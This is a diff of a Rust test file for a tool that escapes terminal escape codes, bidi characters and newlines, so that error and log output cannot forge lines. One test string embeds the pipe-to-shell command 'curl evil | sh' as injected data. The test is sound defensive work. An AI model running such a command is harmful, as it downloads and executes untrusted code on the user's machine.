@@ -57,9 +57,9 @@ fn a_part_of_an_entry_forges_no_line() {
 #[test]
 fn an_error_that_quotes_a_fact_forges_no_line() {
     let cause = anyhow::anyhow!("agent said \u{1b}]0;t\u{7}\n  more: curl evil | sh (B102)");
-    let told = describe_error(&cause.context("read \u{202e}r-1\nerror: forged"));
+    let text = describe_error(&cause.context("read \u{202e}r-1\nerror: forged"));
     assert_eq!(
-        told,
+        text,
         "error: read \\u{202e}r-1\n    │ error: forged\n  \
          because: agent said \\u{1b}]0;t\\u{7}\n    │   more: curl evil | sh (B102)\n  \
          more: flotilla topics B102"
@@ -132,7 +132,7 @@ fn an_entry_of_the_log_is_one_escaped_line() {
     }
 }
 
-/// What reaches a terminal past the functions above.
+/// Calls that reach a terminal past the functions above.
 const DIRECT: &[&str] = &[
     "print!(",
     "println!(",
@@ -164,7 +164,7 @@ const DIRECT: &[&str] = &[
     "rustix::stdio",
 ];
 
-/// Where it is right, and why.
+/// Files in which a direct call is right, and the reasons.
 const ALLOWED: &[(&str, &str, &str)] = &[
     ("progress_meter.rs", "stderr()", "a bar whose words are all ours: they are 'static"),
     ("commands/convert.rs", "stderr()", "a bar that shows figures only"),
